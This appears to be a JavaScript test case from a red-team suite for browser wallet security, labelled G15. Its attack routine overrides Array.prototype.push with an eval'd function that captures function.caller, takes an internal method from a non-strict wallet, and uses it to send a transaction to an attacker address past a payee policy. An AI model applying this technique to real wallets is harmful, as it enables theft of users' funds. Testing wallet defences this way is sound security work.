// G15: a poisoned method that a sloppy wallet calls asks the language who called it.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G15',
  title: 'function.caller inside a sloppy wallet',
  source: 'red team, function.caller',
  level: 'out',
  why: 'the language shows a sloppy function to what it calls: a wallet is held that is strict, or speaks by window messages',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const call = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] };
    const { push } = Array.prototype;
    const take = (0, eval)(`(function take(item) {
      if (take.caller) take.last = take.caller;
      this[this.length] = item;
      return this.length;
    })`);
    Array.prototype.push = take;
    const asked = window.ethereum.request({ method: 'eth_accounts', params: [] });
    Array.prototype.push = push;
    await asked;
    return take.last.call(window.ethereum, call);
  },

  async action(a) {
    const { ethereum } = window;
    await ethereum.request({ method: 'eth_requestAccounts' });
    const tx = { from: a.USER, to: a.GOOD, value: '0x5' };
    return ethereum.request({ method: 'eth_sendTransaction', params: [tx] });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  page: { wallet: 'none', wallets: ['sloppy'] },
};
